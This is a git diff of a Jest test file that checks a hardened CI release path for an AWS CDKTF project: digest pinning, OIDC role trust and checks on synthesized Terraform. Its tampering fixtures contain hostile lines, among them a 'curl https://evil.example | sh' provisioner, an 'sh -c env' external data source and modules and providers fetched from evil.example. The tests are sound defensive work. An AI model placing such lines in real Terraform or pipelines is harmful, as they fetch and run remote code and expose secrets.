     expect(dependabot?.version).toBe(2);
     const updates = dependabot!.updates;
-    expect(updates.map((u) => u["package-ecosystem"]).sort()).toEqual(["docker", "github-actions", "npm"]);
+    expect(updates.map((u) => `${u["package-ecosystem"]} ${u.directory}`).sort()).toEqual(
+      ["docker /.github/buildkit", "docker /api", "github-actions /", "npm /"].sort(),
+    );
     for (const u of updates) {
-      expect(u.directory).toBe(u["package-ecosystem"] === "docker" ? "/api" : "/");
       expect(u.schedule).toEqual({ interval: "weekly" });
       const groups = Object.values(u.groups ?? {}) as { patterns?: string[] }[];
       expect(groups).toHaveLength(1);
@@ -1104,52 +1259,21 @@ describe("CODEOWNERS", () => {
     .map(([pattern, ...owners]) => ({ pattern, owners }));
   const owners = config.project.github.platformOwners;
 
-  /** Everything that runs with a deploy role, decides what the roles may do, or guards them. */
-  const OWNED = [
-    "/.github/",
-    "/.ci/",
-    "/main.ts",
-    "/cdktf.json",
-    "/package.json",
-    "/package-lock.json",
-    "/tsconfig.json",
-    "/jest.config.js",
-    "/biome.json",
-    "/app.ts",
-    "/bootstrap/",
-    "/config/",
-    "/lib/",
-    "/constructs/",
-    "/stacks/",
-    "/audit/",
-    "/emulator/",
-    "/scripts/",
-    "/__tests__/",
-  ];
-
-  it("the config's platform owners own the workflows, the app, its stacks, the bootstrap, the config, the dependencies, the guards", () => {
+  it("gives everything a default owner first: `*`, the config's platform owners exactly", () => {
     expect(text).toBeDefined();
     expect(owners.length).toBeGreaterThan(0);
-    for (const path of OWNED) {
-      expect({ path, owners: rules.filter((r) => r.pattern === path).map((r) => r.owners) }).toEqual({ path, owners: [[...owners]] });
+    expect(rules[0]).toEqual({ pattern: "*", owners: [...owners] });
+  });
+
+  it("keeps the platform owners on every exception (the last matching rule replaces `*`), so no path is left without them", () => {
+    for (const r of rules) {
+      expect({ pattern: r.pattern, missing: owners.filter((o) => !r.owners.includes(o)) }).toEqual({ pattern: r.pattern, missing: [] });
     }
   });
 
-  it("covers every top-level file and folder of the repository that runs in a deploy job, except the API's own app/", () => {
-    const tracked = execSync("git ls-files", { cwd: join(__dirname, ".."), encoding: "utf8" })
-      .split("\n")
-      .filter(Boolean);
-    const tops = [...new Set(tracked.map((f) => (f.includes("/") ? `/${f.split("/")[0]}/` : `/${f}`)))];
-    const unowned = tops.filter((t) => !OWNED.includes(t) && !/\.md$/.test(t) && t !== "/.gitignore" && t !== "/api/");
-    expect(unowned).toEqual([]);
-  });
-
-  it("has no other rule that could override them (the last matching rule wins)", () => {
-    expect(rules.map((r) => r.pattern).sort()).toEqual([...OWNED].sort());
-  });
-
-  it("says in its header that the list must equal the config", () => {
+  it("states its exceptions and says in its header that the list must equal the config", () => {
     expect(text).toMatch(/^#[\s\S]*project\.github\.platformOwners/);
+    expect(text).toMatch(/^# Exceptions:/m);
   });
 });
 
@@ -1198,5 +1322,428 @@ describe("the deploy role allows every registry call the deploy makes", () => {
       const denied = statements.some((s) => s.Effect === "Deny" && list(s.Action).includes(action) && list(s.Resource).includes("*"));
       expect({ action, allowed, denied }).toEqual({ action, allowed: true, denied: false });
     }
+  });
+});
+
+/**
+ * The release path against one malicious writer and one malicious npm package (issue 20): no job that
+ * can mint an OIDC token runs npm or the repository's code, everything a job pulls is pinned, each
+ * role trusts exactly the workflow that uses it, and what the privileged jobs run is checked first.
+ */
+describe("release path: no package code where a token can be minted", () => {
+  const privileged = jobs.filter((j) => holdsIdToken(j.job) && j.job.steps !== undefined);
+
+  it("every job with id-token: write checks nothing out and runs no npm, npx, node or file of the repository", () => {
+    expect(privileged.map(at).sort()).toEqual(
+      [`${DEPLOY} job deploy`, `${DRIFT} job plan`, `${PR} job plan`, `${STAGE} job attest`].sort(),
+    );
+    for (const j of privileged) {
+      const found = {
+        job: at(j),
+        checkout: stepsUsing(j.job, "actions/checkout").length,
+        setupNode: stepsUsing(j.job, "actions/setup-node").length,
+        localActions: (j.job.steps ?? []).filter((s) => s.uses?.startsWith("./")).length,
+        lines: runLines(j.job).filter((l) => /(^|[\s;(|&$])(npm|npx|node|tsx|yarn|pnpm|make|\.\/[\w./-]+|bash [\w./-]+\.sh)(\s|$)/.test(l)),
+      };
+      expect(found).toEqual({ job: at(j), checkout: 0, setupNode: 0, localActions: 0, lines: [] });
+    }
+  });
+
+  it("every job that runs npm installs without install scripts, except the tests' own job (it holds a read-only token only)", () => {
+    for (const j of jobs) {
+      for (const l of runLines(j.job).filter((l) => /^npm (ci|install)\b/.test(l))) {
+        if (j.file === PR && (j.id === "test" || j.id === "synth")) continue;
+        expect({ job: at(j), line: l, ignoreScripts: l.includes("--ignore-scripts") }).toEqual({
+          job: at(j),
+          line: l,
+          ignoreScripts: true,
+        });
+      }
+    }
+    for (const id of ["test", "synth"]) expect(workflows[PR].jobs[id].permissions).toEqual({ contents: "read" });
+  });
+
+  it("no run: step interpolates an expression (script injection): values reach scripts through env", () => {
+    const interpolating = jobs.flatMap((j) =>
+      (j.job.steps ?? []).filter((s) => /\$\{\{/.test(s.run ?? "")).map((s) => `${at(j)}: ${s.name}`),
+    );
+    expect(interpolating).toEqual([]);
+  });
+
+  it("a job that assumes a role holds the id-token; one that runs npm never does", () => {
+    for (const j of jobs.filter((j) => j.job.steps)) {
+      const npm = runLines(j.job).some((l) => /^(npm|npx) /.test(l));
+      expect({ job: at(j), npmWithToken: npm && holdsIdToken(j.job) }).toEqual({ job: at(j), npmWithToken: false });
+    }
+  });
+});
+
+describe("release path: each role trusts exactly the workflow file and ref that use it", () => {
+  const owner = `${config.project.github.owner}/${config.project.github.repo}`;
+  /** For each role variable a job reads, the trusted subject's ending it must have. */
+  const expected: [string, string][] = [
+    [`vars.${ENVIRONMENT_VARIABLES.deployRoleArn}`, `:${workflowRef(`.github/workflows/${DEPLOY}`)}`],
+    [STACK_VARIABLES.planRoleArn, `:${workflowRef(`.github/workflows/${PR}`, "refs/pull/*/merge")}`],
+    [STACK_VARIABLES.driftRoleArn, `:${workflowRef(`.github/workflows/${DRIFT}`)}`],
+  ];
+
+  it("the workflow files the roles name are the files of the jobs that assume them", () => {
+    expect(GITHUB_WORKFLOWS).toEqual({
+      deploy: `.github/workflows/${DEPLOY}`,
+      drift: `.github/workflows/${DRIFT}`,
+      plan: `.github/workflows/${PR}`,
+    });
+    for (const [variable, ending] of expected) {
+      const assumers = jobs.filter((j) =>
+        stepsUsing(j.job, "aws-actions/configure-aws-credentials").some((s) => String(s.with?.["role-to-assume"]).includes(variable)),
+      );
+      expect(assumers.length).toBe(1);
+      expect(ending).toContain(`${owner}/.github/workflows/${assumers[0].file}@`);
+    }
+  });
+
+  it("every role GitHub's tokens assume names its workflow's job_workflow_ref in the subject it trusts", () => {
+    // In every account: each environment's deploy role, and a plan and a drift role per account.
+    const githubRoles = bootstrapRoles.filter((r) => subjectsOf(r).length > 0);
+    expect(githubRoles.length).toBe(envNames.length + 2 * bootstraps.length);
+    for (const role of githubRoles) {
+      for (const sub of subjectsOf(role)) {
+        const endings = expected.map(([, e]) => e).filter((e) => sub.endsWith(e));
+        expect({ role: role.name, sub, endings: endings.length }).toEqual({ role: role.name, sub, endings: 1 });
+      }
+    }
+  });
+
+  it("the github stack makes GitHub put the job_workflow_ref in every token's subject", () => {
+    const [template] = Object.values(resources(github, "github_actions_repository_oidc_subject_claim_customization_template"));
+    expect(template?.include_claim_keys).toEqual(["repo", "context", "job_workflow_ref"]);
+  });
+});
+
+describe("release path: everything a job pulls at run time is pinned", () => {
+  const buildkitFile = repoFile(".github/buildkit/Dockerfile") ?? "";
+  const build = workflows[STAGE].jobs.build;
+  const read = build?.steps?.find((s) => s.id === "buildkit");
+
+  it("the builder runs the BuildKit image named by digest in .github/buildkit/Dockerfile, not the action's moving tag", () => {
+    const [buildx] = stepsUsing(build, "docker/setup-buildx-action");
+    expect(buildx.with?.["driver-opts"]).toBe("image=${{ steps.buildkit.outputs.image }}");
+    expect(stepIndex(build, (s) => s.id === "buildkit")).toBeLessThan(stepIndex(build, (s) => s === buildx));
+    const cwd = mkdtempSync(join(tmpdir(), "buildkit-"));
+    mkdirSync(join(cwd, ".github", "buildkit"), { recursive: true });
+    writeFileSync(join(cwd, ".github", "buildkit", "Dockerfile"), buildkitFile);
+    writeFileSync(join(cwd, "out"), "");
+    const ran = bash(read!.run!, { GITHUB_OUTPUT: join(cwd, "out") }, cwd);
+    expect(ran).toEqual({ status: 0, log: "" });
+    expect(readFileSync(join(cwd, "out"), "utf8")).toMatch(/^image=moby\/buildkit:[\w.-]+@sha256:[0-9a-f]{64}\n$/);
+  });
+
+  it("refuses a BuildKit image named by tag alone", () => {
+    const cwd = mkdtempSync(join(tmpdir(), "buildkit-"));
+    mkdirSync(join(cwd, ".github", "buildkit"), { recursive: true });
+    writeFileSync(join(cwd, ".github", "buildkit", "Dockerfile"), "FROM moby/buildkit:buildx-stable-1\n");
+    const ran = bash(read!.run!, { GITHUB_OUTPUT: join(cwd, "out") }, cwd);
+    expect(ran.status).toBe(1);
+    expect(ran.log).toContain("::error::.github/buildkit/Dockerfile must name moby/buildkit:<tag>@sha256:<64 hex>");
+  });
+
+  it("no job runs a container, service or docker image that is not named by digest", () => {
+    for (const j of jobs) {
+      expect({ job: at(j), container: (j.job as any).container, services: (j.job as any).services }).toEqual({ job: at(j) });
+      const images = runLines(j.job).filter((l) => /docker (run|pull|create)\b/.test(l) && !/@sha256:[0-9a-f]{64}/.test(l));
+      expect({ job: at(j), images }).toEqual({ job: at(j), images: [] });
+    }
+  });
+
+  it("no job with an id-token downloads a tool through a setup action: Terraform comes by a pinned sha256, the same everywhere", () => {
+    const installs = jobs.flatMap((j) => (j.job.steps ?? []).filter((s) => s.name === PINNED_TERRAFORM_STEP).map((s) => ({ j, s })));
+    expect(installs.map(({ j }) => at(j)).sort()).toEqual([`${DEPLOY} job deploy`, `${DRIFT} job plan`, `${PR} job plan`].sort());
+    for (const j of jobs.filter((j) => holdsIdToken(j.job))) {
+      const setups = (j.job.steps ?? []).filter((s) => /^(actions\/setup-|hashicorp\/setup-)/.test(action(s.uses) ?? ""));
+      expect({ job: at(j), setups }).toEqual({ job: at(j), setups: [] });
+    }
+    const [first] = installs;
+    for (const { j, s } of installs) {
+      expect(s.run).toBe(first.s.run);
+      expect(s.run).toMatch(/sha256sum --check --strict\n[\s\S]*unzip/);
+      expect(j.job.env?.TERRAFORM_VERSION).toBe(TERRAFORM_VERSION);
+      expect(String(j.job.env?.TERRAFORM_SHA256)).toMatch(/^[0-9a-f]{64}$/);
+      expect(j.job.env?.TERRAFORM_SHA256).toBe(first.j.job.env?.TERRAFORM_SHA256);
+    }
+  });
+});
+
+describe("release path: the privileged jobs check what the synth job made before any credential", () => {
+  const vets = jobs.flatMap((j) => (j.job.steps ?? []).filter((s) => s.name === VET_STEP).map((s) => ({ j, s })));
+  const vet = vets[0]?.s.run ?? "";
+  /** Runs the check on `tf` as the stack `stack`'s cdk.tf.json, with `extra` files beside it. */
+  function check(tf: unknown, extra: string[] = []) {
+    const cwd = mkdtempSync(join(tmpdir(), "vet-"));
+    const dir = join(cwd, "cdktf.out", "stacks", "prod");
+    mkdirSync(dir, { recursive: true });
+    writeFileSync(join(dir, "cdk.tf.json"), JSON.stringify(tf));
+    for (const f of extra) writeFileSync(join(dir, f), "x");
+    return bash(vet, { STACK_DIR: "cdktf.out/stacks/prod" }, cwd);
+  }
+  const prod = () => parse(Testing.synth(platform.environments.prod)) as any;
+
+  it("every job that plans or applies synthesized Terraform with a role runs the one check, after the download and before the role", () => {
+    expect(vets.map(({ j }) => at(j)).sort()).toEqual([`${DEPLOY} job deploy`, `${DRIFT} job plan`, `${PR} job plan`].sort());
+    for (const { j, s } of vets) {
+      expect(s.run).toBe(vet);
+      const steps = j.job.steps!;
+      const i = steps.indexOf(s);
+      const assume = stepIndex(j.job, (x) => action(x.uses) === "aws-actions/configure-aws-credentials");
+      const terraform = stepIndex(j.job, (x) => /terraform -chdir/.test(x.run ?? ""));
+      expect({ job: at(j), beforeAssume: i < assume, beforeTerraform: i < terraform }).toEqual({
+        job: at(j),
+        beforeAssume: true,
+        beforeTerraform: true,
+      });
+    }
+  });
+
+  it("passes every AWS stack the app synthesizes, in one account and in two (prod's bootstrap state in its bucket)", () => {
+    const two = sampleConfig() as any;
+    two.project.accounts = [{ ...two.project.accounts[0], bootstrap: { stateInBucket: true } }];
+    for (const p of [buildSample(oneAccountConfig()), platform, buildSample(two as PlatformConfig)]) {
+      for (const stack of awsStacks(p)) {
+        const tf = parse(Testing.synth(p.bootstraps[stack] ?? p.environments[stack]));
+        expect({ stack, ...check(tf) }).toEqual({ stack, status: 0, log: "" });
+      }
+    }
+  });
+
+  it.each<[string, (tf: any) => void, RegExp]>([
+    [
+      "a local-exec provisioner",
+      (tf) => {
+        const [type] = Object.keys(tf.resource);
+        const [name] = Object.keys(tf.resource[type]);
+        tf.resource[type][name].provisioner = [{ "local-exec": { command: "curl https://evil.example | sh" } }];
+      },
+      /a provisioner or connection on aws_/,
+    ],
+    ["an external data source", (tf) => void (tf.data.external = { x: { program: ["sh", "-c", "env"] } }), /data source external/],
+    ["a module", (tf) => void (tf.module = { m: { source: "git::https://evil.example/m" } }), /module m/],
+    ["another provider", (tf) => void (tf.terraform.required_providers.null = { source: "hashicorp/null" }), /provider null from/],
+    ["a resource of another provider", (tf) => void (tf.resource.null_resource = { n: {} }), /resource type null_resource/],
+    [
+      "the AWS provider from elsewhere",
+      (tf) => void (tf.terraform.required_providers.aws.source = "evil/aws"),
+      /provider aws from evil\/aws/,
+    ],
+    ["a provider profile", (tf) => void (tf.provider.aws[0].profile = "evil"), /aws provider setting profile/],
+    ["a provider config file", (tf) => void (tf.provider.aws[0].shared_config_files = ["./c"]), /aws provider setting shared_config_files/],
+    ["a backend profile", (tf) => void (tf.terraform.backend.s3.profile = "evil"), /backend setting profile/],
+    [
+      "an http remote state",
+      (tf) => void (tf.data.terraform_remote_state = { s: { backend: "http", config: {} } }),
+      /remote state s from http/,
+    ],
+  ])("fails, naming it, on %s", (_what, tamper, message) => {
+    const tf = prod();
+    tamper(tf);
+    const ran = check(tf);
+    expect(ran.status).toBe(1);
+    expect(ran.log).toContain("::error::cdktf.out/stacks/prod/cdk.tf.json must only call AWS through the AWS provider");
+    expect(ran.log).toMatch(message);
+  });
+
+  it("fails on a file beside cdk.tf.json (a config file a setting could point to)", () => {
+    const ran = check(prod(), ["aws-config"]);
+    expect(ran.status).toBe(1);
+    expect(ran.log).toContain("::error::cdktf.out/stacks/prod holds more than cdk.tf.json: cdktf.out/stacks/prod/aws-config");
+  });
+});
+
+describe("release path: the deploy applies the synth job's tarball, checked by its digest", () => {
+  const wf = workflows[DEPLOY];
+  const synth = wf.jobs.synth;
+  const deploy = wf.jobs.deploy;
+  // Looked up leniently, so a workflow without them fails these tests rather than the whole file.
+  const pack = synth?.steps?.find((s) => s.id === "pack") ?? {};
+  const unpack = deploy?.steps?.find((s) => s.name === "Check the release digest and unpack it") ?? {};
+  const env = { STACK_DIR: "cdktf.out/stacks/prod", SITE_DIR: "site-dist" };
+
+  /** Packs a workspace holding prod's Terraform and a site with the synth job's step; returns the digest it output. */
+  function packed(): { cwd: string; digest: string } {
+    const cwd = mkdtempSync(join(tmpdir(), "release-"));
+    mkdirSync(join(cwd, "cdktf.out", "stacks", "prod"), { recursive: true });
+    mkdirSync(join(cwd, "site-dist"), { recursive: true });
+    writeFileSync(join(cwd, "cdktf.out", "stacks", "prod", "cdk.tf.json"), Testing.synth(platform.environments.prod));
+    writeFileSync(join(cwd, "site-dist", "index.html"), "<p>prod</p>");
+    writeFileSync(join(cwd, "out"), "");
+    expect(bash(pack.run!, { ...env, GITHUB_OUTPUT: join(cwd, "out") }, cwd)).toEqual({ status: 0, log: "" });
+    return { cwd, digest: /^digest=(.*)$/m.exec(readFileSync(join(cwd, "out"), "utf8"))![1] };
+  }
+  /** The deploy job's check, in a fresh workspace holding only the downloaded tarball. */
+  function unpacked(from: string, digest: string) {
+    const cwd = mkdtempSync(join(tmpdir(), "deploy-"));
+    mkdirSync(join(cwd, "release"));
+    writeFileSync(join(cwd, "release", "release.tar"), readFileSync(join(from, "release", "release.tar")));
+    return { cwd, ...bash(unpack.run!, { ...env, RELEASE_DIGEST: digest }, cwd) };
+  }
+
+  it("unpacks exactly what the synth job packed when the digest matches", () => {
+    const { cwd, digest } = packed();
+    expect(digest).toMatch(/^sha256:[0-9a-f]{64}$/);
+    const out = unpacked(cwd, digest);
+    expect({ status: out.status, log: out.log }).toEqual({ status: 0, log: expect.stringContaining(": OK") });
+    expect(readFileSync(join(out.cwd, "cdktf.out", "stacks", "prod", "cdk.tf.json"), "utf8")).toBe(
+      Testing.synth(platform.environments.prod),
+    );
+  });
+
+  it("names artifacts a later job reads without the attempt, overwritten on a re-run, so re-running that job alone works", () => {
+    for (const file of [DEPLOY, DRIFT]) {
+      for (const [id, job] of Object.entries(workflows[file].jobs)) {
+        for (const upload of stepsUsing(job, "actions/upload-artifact")) {
+          expect({ file, id, name: String(upload.with?.name).includes("run_attempt"), overwrite: upload.with?.overwrite }).toEqual({
+            file,
+            id,
+            name: false,
+            overwrite: true,
+          });
+        }
+      }
+    }
+  });
+
+  it("the deploy job refuses Terraform whose task definitions do not all run the verified digest", () => {
+    const step = deploy?.steps?.find((s) => s.name === "Check the Terraform deploys the verified image")?.run ?? "exit 2";
+    const digest = `sha256:${"c".repeat(64)}`;
+    const run = (tf: string) => {
+      const cwd = mkdtempSync(join(tmpdir(), "pinned-"));
+      mkdirSync(join(cwd, "cdktf.out", "stacks", "prod"), { recursive: true });
+      writeFileSync(join(cwd, "cdktf.out", "stacks", "prod", "cdk.tf.json"), tf);
+      return bash(step, { ...env, ENVIRONMENT: "prod", IMAGE_DIGEST: digest }, cwd);
+    };
+    expect(run(Testing.synth(buildSample(config, { imageDigest: digest }).environments.prod))).toEqual({ status: 0, log: "" });
+    const other = run(Testing.synth(buildSample(config, { imageDigest: `sha256:${"d".repeat(64)}` }).environments.prod));
+    expect(other.status).toBe(1);
+    expect(other.log).toContain(`::error::the synthesized task definitions of prod do not all run ${digest}`);
+    expect(run(Testing.synth(platform.environments.prod)).status).toBe(1);
+  });
+
+  it("refuses a tarball whose digest is not the synth job's output, before unpacking anything", () => {
+    const { cwd } = packed();
+    const out = unpacked(cwd, `sha256:${"0".repeat(64)}`);
+    expect(out.status).not.toBe(0);
+    expect(out.log).toContain("FAILED");
+    expect(existsSync(join(out.cwd, "cdktf.out"))).toBe(false);
+  });
+
+  it("refuses a tarball with anything outside the stack and the site", () => {
+    const { cwd } = packed();
+    writeFileSync(join(cwd, ".npmrc"), "x");
+    const evil = bash('tar -cf "$RUNNER_TEMP/release/release.tar" cdktf.out/stacks/prod site-dist .npmrc', {}, cwd);
+    expect(evil.status).toBe(0);
+    const digest = `sha256:${execSync(`sha256sum "${join(cwd, "release", "release.tar")}"`, { encoding: "utf8" }).split(" ")[0]}`;
+    const out = unpacked(cwd, digest);
+    expect(out.status).toBe(1);
+    expect(out.log).toContain("::error::the release holds what it must not");
+    expect(out.log).toContain(".npmrc");
+  });
+});
+
+describe("release path: the drift check plans the deployed image and hands on no value", () => {
+  const plan = workflows[DRIFT].jobs.plan;
+  const pin = plan?.steps?.find((s) => s.name === "Pin the deployed image")?.run ?? "";
+  const reduce = plan?.steps?.find((s) => s.name === "Keep the plan's changes without their values")?.run ?? "";
+  const pinFilter = /jq --arg suffix "\$suffix" '([\s\S]*?)' "\$tf" > "\$tf\.pinned"/.exec(pin)?.[1] ?? "missing";
+  const reduceFilter = /jq -c '([\s\S]*?)' "\$RUNNER_TEMP\/plan\.json"/.exec(reduce)?.[1] ?? "missing";
+  const jq = (filter: string, input: unknown, args: string[] = []) =>
+    JSON.parse(
+      execFileSync("jq", ["-c", ...args, "-f", writeTemp(filter, "filter.jq"), writeTemp(JSON.stringify(input), "in.json")], {
+        encoding: "utf8",
+      }),
+    );
+  function writeTemp(text: string, name: string): string {
+    const file = join(mkdtempSync(join(tmpdir(), "jq-")), name);
+    writeFileSync(file, text);
+    return file;
+  }
+  const definitions = (tf: any) =>
+    Object.fromEntries(
+      Object.entries(tf.resource.aws_ecs_task_definition).map(([k, v]: [string, any]) => [k, JSON.parse(v.container_definitions)]),
+    );
+
+  it("pins each task definition's image exactly as a synth with the deployed digest would", () => {
+    const digest = `sha256:${"b".repeat(64)}`;
+    for (const env of envNames) {
+      const placeholder = parse(Testing.synth(buildSample(config).environments[env]));
+      const deployed = parse(Testing.synth(buildSample(config, { imageDigest: digest }).environments[env]));
+      const pinned = jq(pinFilter, placeholder, ["--arg", "suffix", `@${digest}`]);
+      expect(definitions(pinned)).toEqual(definitions(deployed));
+      expect(Object.keys(definitions(pinned)).length).toBeGreaterThan(0);
+      expect({ ...pinned, resource: { ...pinned.resource, aws_ecs_task_definition: {} } }).toEqual({
+        ...placeholder,
+        resource: { ...placeholder.resource, aws_ecs_task_definition: {} },
+      });
+    }
+  });
+
+  it("asks ECS for every service of the stack, ten a call, and pins the one image they all run", () => {
+    const digest = `sha256:${"c".repeat(64)}`;
+    const shipped = parse(Testing.synth(platform.environments.stage));
+    const { tf, names } = withMoreServices(shipped, 10);
+    const cluster = Object.values(resources(shipped, "aws_ecs_cluster"))[0].name as string;
+    const pinWith = (images: Record<string, string>) => {
+      const cwd = stackCheckout("stage", tf);
+      const aws = fakeAws(cwd);
+      const env = { PATH: aws.path, STACK: "stage", STACK_DIR: "cdktf.out/stacks/stage", FAKE_AWS_IMAGES: JSON.stringify(images) };
+      const result = bash(pin, env, cwd);
+      const pinned = JSON.parse(readFileSync(join(cwd, "cdktf.out", "stacks", "stage", "cdk.tf.json"), "utf8"));
+      return { ...result, calls: aws.calls(), pinned };
+    };
+    const same = pinWith({ "*": `123456789012.dkr.ecr.eu-west-1.amazonaws.com/acme-stage-api@${digest}` });
+    expect({ status: same.status, log: same.status === 0 ? "" : same.log }).toEqual({ status: 0, log: "" });
+    const described = same.calls.filter((c) => c.startsWith("ecs describe-services"));
+    expect(described).toEqual(
+      [names.slice(0, 10), names.slice(10)].map(
+        (chunk) => `ecs describe-services --cluster ${cluster} --services ${chunk.join(" ")} --output json`,
+      ),
+    );
+    expect(same.calls.filter((c) => c.startsWith("ecs describe-task-definition"))).toHaveLength(names.length);
+    const deployed = parse(Testing.synth(buildSample(config, { imageDigest: digest }).environments.stage));
+    expect(definitions(same.pinned)).toEqual(definitions(deployed));
+    // A service the last deploy left on another image: no one image to plan with, said so, nothing pinned.
+    const split = pinWith({ "*": `repo@${digest}`, [names[10]]: "repo:latest" });
+    expect(split.status).toBe(1);
+    expect(split.log).toContain(`::error::the 11 services of stage (${names.join(" ")}) run 2 images`);
+    expect(split.pinned).toEqual(tf);
+  });
+
+  it("keeps what drift.ts reports from a plan, and none of the plan's values", () => {
+    const full = {
+      resource_changes: [
+        {
+          address: "aws_security_group.api",
+          mode: "managed",
+          type: "aws_security_group",
+          change: {
+            actions: ["update"],
+            before: { ingress: [1], name: "api", secret: "s3cr3t" },
+            after: { ingress: [2], name: "api", secret: "n3w" },
+          },
+        },
+        {
+          address: "aws_s3_bucket.site",
+          mode: "managed",
+          change: { actions: ["delete", "create"], before: { bucket: "a" }, after: { bucket: "b" } },
+        },
+        { address: "aws_sqs_queue.q", mode: "managed", change: { actions: ["create"], before: null, after: { name: "q" } } },
+        { address: "data.aws_region.r", mode: "data", change: { actions: ["read"], before: null, after: { name: "eu-west-1" } } },
+        { address: "aws_iam_role.same", mode: "managed", change: { actions: ["no-op"], before: { name: "r" }, after: { name: "r" } } },
+      ],
+      resource_drift: [{ address: "aws_security_group.api", change: { actions: ["update"], before: { secret: "old" } } }],
+    };
+    const reduced = jq(reduceFilter, full);
+    expect(driftFromPlan(reduced)).toEqual(driftFromPlan(full));
+    expect(driftFromPlan(full).map((d) => d.attributes)).toEqual([["bucket"], ["ingress", "secret"], []]);
+    const text = JSON.stringify(reduced);
+    for (const value of ["s3cr3t", "n3w", "old", '"a"', '"b"', "eu-west-1"])
+      expect({ value, kept: text.includes(value) }).toEqual({ value, kept: false });
   });
 });
